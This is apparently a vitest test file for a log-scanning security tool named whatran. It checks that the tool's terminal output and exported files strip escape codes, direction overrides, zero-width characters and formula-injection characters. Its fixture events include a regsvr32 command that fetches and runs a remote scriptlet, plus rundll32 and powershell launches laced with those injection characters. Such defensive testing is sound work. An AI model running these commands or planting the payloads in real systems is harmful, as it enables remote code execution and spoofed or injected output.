import { mkdirSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { whatran } from "../support/io.ts";
import { folder, processStart } from "../support/logs.ts";

/** Escape sequences, direction marks, zero-width characters, separators of lines, NUL, half a pair, markup and formulas. */
const H = "\u001b[31m\u202e\u200b\u2028\u0085\u0000\ud800<b>\"';=1\r";
const HIDDEN = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

let dir = folder();
let log = "";
beforeAll(async () => {
  dir = folder();
  const lines = [1, 2, 3, 4].flatMap((at) => {
    const parts = (start: object) => ({
      "@timestamp": `2024-05-02T09:1${at}:55.120Z`,
      host: { name: `${H}pc`, os: { family: "windows", type: "windows" } },
      user: { name: `=kim${H}`, domain: H },
      ...start,
    });
    const line = `regsvr32.exe /s /u /i:http://203.0.113.9/${H}.sct scrobj.dll`;
    return [
      processStart(line, parts({})),
      processStart(`rundll32.exe C:\\Users\\${H}\\a.dll,Run`, parts({})),
      processStart(`C:\\Users\\${H}\\odd.exe powershell -c "${H}"`, parts({})),
    ];
  });
  log = dir.write(`\u202elog\u001b[31m.ndjson`, `${lines.join("\n")}\n`);
  dir.write("whatran.yaml", `scan:\n  excludeComputer: ["${"\\e[31m\\u202E"}"]\n`);
  mkdirSync(join(dir.path, "out"));
  expect((await whatran(["learn", log, "--baseline", join(dir.path, "b")])).code).toBe(0);
});
afterAll(() => dir.remove());

const COMMANDS: readonly (readonly string[])[] = [
  ...["table", "ndjson", "json", "csv", "html"].map((format) => ["scan", "LOG", "--format", format, "--cases"]),
  [
    "scan",
    "LOG",
    "-m",
    "informational",
    "--cures",
    "--summary",
    "out/summary.json",
    "-o",
    "out/a.html",
    "-o",
    "out/a.csv",
  ],
  ["explain", `regsvr32 /i:http://h/${H} scrobj.dll`],
  ["explain", "--format", "json", `rundll32 ${H}.dll,${H}`],
  ["coverage", "LOG"],
  ["coverage", "LOG", "--navigator", "out/layer.json", "-o", "out/page.html"],
  ["coverage", "LOG", "--format", "json"],
  ["discover", "LOG"],
  ["formats", "LOG"],
  ["formats", "LOG", "--json"],
  ["baseline", "show", "b"],
  ["baseline", "export", "b"],
  ["baseline", "export", "b", "-o", "out/keys.ndjson"],
  ["tune", "LOG"],
  ["harden", "LOG", "-o", "out/plan"],
  ["simulate", "LOG", "--policy", "out/plan"],
  ["config", "show"],
  ["config", "show", "--json"],
];

it.each(COMMANDS)("%s %s %s %s lets no hidden character through", async (...typed) => {
  const { code, out, err } = await whatran(
    typed.map((word) => (word === "LOG" ? log : word)),
    { cwd: dir.path },
  );
  expect([code, err]).not.toEqual([2, err]);
  if (!typed.some((word) => word.startsWith("out/"))) expect(out).not.toBe("");
  for (const line of (out + err).replaceAll("\r\n", "\n").split("\n")) expect(line).not.toMatch(HIDDEN);
});

it("nor does a file that was written", () => {
  const files = readdirSync(join(dir.path, "out"), { recursive: true, withFileTypes: true }).filter((one) =>
    one.isFile(),
  );
  expect(files.length).toBeGreaterThan(6);
  for (const { parentPath, name } of files) {
    const text = readFileSync(join(parentPath, name), "utf8").replace(/^\ufeff/, "");
    for (const line of text.split(/\r?\n/))
      expect([name, line.replaceAll("\t", "")]).toEqual([name, expect.not.stringMatching(HIDDEN)]);
  }
});
